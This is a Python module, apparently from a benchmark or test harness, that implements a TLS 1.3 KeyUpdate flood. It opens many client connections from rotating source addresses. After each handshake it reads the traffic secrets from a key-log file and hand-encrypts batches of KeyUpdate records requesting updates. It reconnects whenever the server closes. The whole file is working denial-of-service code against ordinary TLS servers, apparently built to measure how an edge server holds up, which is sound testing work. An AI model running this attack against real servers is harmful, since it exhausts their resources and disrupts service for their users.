"""An attack by TLS clients in one process: each completes its handshake and then sends KeyUpdates without a pause.

No program of OpenSSL is started for a connection, since that would take more of the core that SIPp runs on than the
attack itself does. The records after the handshake are made here: OpenSSL sends one KeyUpdate only once its answer has
been written, and Python has no call for it.
"""

from __future__ import annotations

import contextlib
import hmac
import selectors
import socket
import ssl
import time
from collections.abc import Sequence
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from bench.stream_client import NO_PORT_AT_BIND

__all__ = ["KeyUpdateAttack", "KeyUpdateWriter"]

_BATCH = 64  # KeyUpdates of a write: about twice those that the edge reads of one connection
_READ_BYTES = 65_536
_PAUSE_EVERY, _PAUSE_SECONDS = 50, 0.05
"""A banned address does not connect more than a thousand times a second: the kernel's work for that is SIPp's time."""


class KeyUpdateWriter:
    """Encrypts KeyUpdates (RFC 8446 section 4.6.3) of a client that has sent nothing since its Finished.

    ``secret`` is the client's first traffic secret; the cipher is AES-GCM with the hash function ``hash_name`` and keys
    of ``key_bytes``.
    """

    def __init__(self, secret: bytes, hash_name: str, key_bytes: int) -> None:
        self._secret = secret
        self._hash_name = hash_name
        self._key_bytes = key_bytes

    def write(self, request: bool) -> bytes:
        """A record with a KeyUpdate, which may ask the peer for one; the next record has the next key."""
        cipher, nonce = AESGCM(self._expand(b"key", self._key_bytes)), self._expand(b"iv", 12)
        inner = b"\x18\x00\x00\x01" + bytes((request,)) + b"\x16"  # KeyUpdate, and the type of its record: handshake
        header = b"\x17\x03\x03" + (len(inner) + 16).to_bytes(2, "big")
        record = header + cipher.encrypt(nonce, inner, header)  # the first record of each key: its number is 0
        self._secret = self._expand(b"traffic upd", len(self._secret))
        return record

    def _expand(self, label: bytes, size: int) -> bytes:
        """HKDF-Expand-Label with an empty context, for at most the size of the hash (RFC 8446 section 7.1)."""
        info = size.to_bytes(2, "big") + bytes((len(label) + 6,)) + b"tls13 " + label + b"\0"
        return hmac.digest(self._secret, info + b"\x01", self._hash_name)[:size]


class _Peer:
    """A connection of the attack."""

    __slots__ = ("incoming", "outgoing", "random", "sock", "tls", "unsent", "writer")

    def __init__(self, context: ssl.SSLContext, sock: socket.socket) -> None:
        self.sock = sock
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname="localhost")
        self.writer: KeyUpdateWriter | None = None
        with contextlib.suppress(ssl.SSLWantReadError):
            self.tls.do_handshake()
        self.unsent = self.outgoing.read()
        self.random = self.unsent[11:43].hex()  # of the ClientHello, after the headers of record and message


class KeyUpdateAttack:
    """``count`` connections from ``sources`` in turn, each of which begins anew when the peer has closed it.

    ``keys`` is a file, which OpenSSL writes the secrets of all handshakes to.
    """

    def __init__(self, target: tuple[str, int], sources: Sequence[str], count: int, keys: Path) -> None:
        self.bytes = 0
        self.connects = 0
        self.handshakes = 0
        self.closed = 0
        self._target = target
        self._sources = sources
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._context.check_hostname = False
        self._context.verify_mode = ssl.CERT_NONE
        self._context.minimum_version = ssl.TLSVersion.TLSv1_3
        self._context.keylog_filename = str(keys)
        self._keys = keys.open()
        self._secrets: dict[str, bytes] = {}
        self._ready = selectors.DefaultSelector()
        for number in range(count):
            self._connect(number)

    def run(self, seconds: float) -> None:
        """Attack for so many seconds, and close all connections."""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            for key, events in self._ready.select(0.1):
                number, peer = key.data
                self._serve(number, peer, events)
        for key in list(self._ready.get_map().values()):
            key.data[1].sock.close()
        self._ready.close()
        self._keys.close()

    def _connect(self, number: int) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        self.connects += 1
        sock.setsockopt(socket.IPPROTO_IP, NO_PORT_AT_BIND, 1)
        sock.bind((self._sources[number % len(self._sources)], 0))
        sock.connect_ex(self._target)
        data = number, _Peer(self._context, sock)
        self._ready.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, data)

    def _serve(self, number: int, peer: _Peer, events: int) -> None:
        try:
            if events & selectors.EVENT_READ:
                self._receive(peer)
            if events & selectors.EVENT_WRITE:
                self._send(number, peer)
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            self._ready.unregister(peer.sock)
            peer.sock.close()
            self.closed += 1
            if self.closed % _PAUSE_EVERY == 0:
                time.sleep(_PAUSE_SECONDS)
            self._connect(number)

    def _receive(self, peer: _Peer) -> None:
        data = peer.sock.recv(_READ_BYTES)
        if not data:
            raise ConnectionResetError("closed by the peer")
        if peer.writer is not None:
            return  # nothing that the peer sends after the handshake matters
        peer.incoming.write(data)
        try:
            peer.tls.do_handshake()
            self.handshakes += 1
            peer.writer = self._writer(peer)
        finally:
            peer.unsent += peer.outgoing.read()
            self._ready.modify(
                peer.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, self._ready.get_key(peer.sock).data
            )

    def _send(self, number: int, peer: _Peer) -> None:
        if not peer.unsent and peer.writer is not None:
            peer.unsent = b"".join(peer.writer.write(True) for _ in range(_BATCH))
        if not peer.unsent:  # the server is to speak
            self._ready.modify(peer.sock, selectors.EVENT_READ, (number, peer))
            return
        sent = peer.sock.send(peer.unsent)
        peer.unsent = peer.unsent[sent:]
        self.bytes += sent

    def _writer(self, peer: _Peer) -> KeyUpdateWriter:
        for line in self._keys:
            label, _, rest = line.partition(" ")
            if label == "CLIENT_TRAFFIC_SECRET_0":
                random, _, secret = rest.strip().partition(" ")
                self._secrets[random] = bytes.fromhex(secret)
        name, _, bits = peer.tls.cipher() or ("", "", 0)
        return KeyUpdateWriter(
            self._secrets.pop(peer.random), "sha384" if name.endswith("SHA384") else "sha256", bits // 8
        )
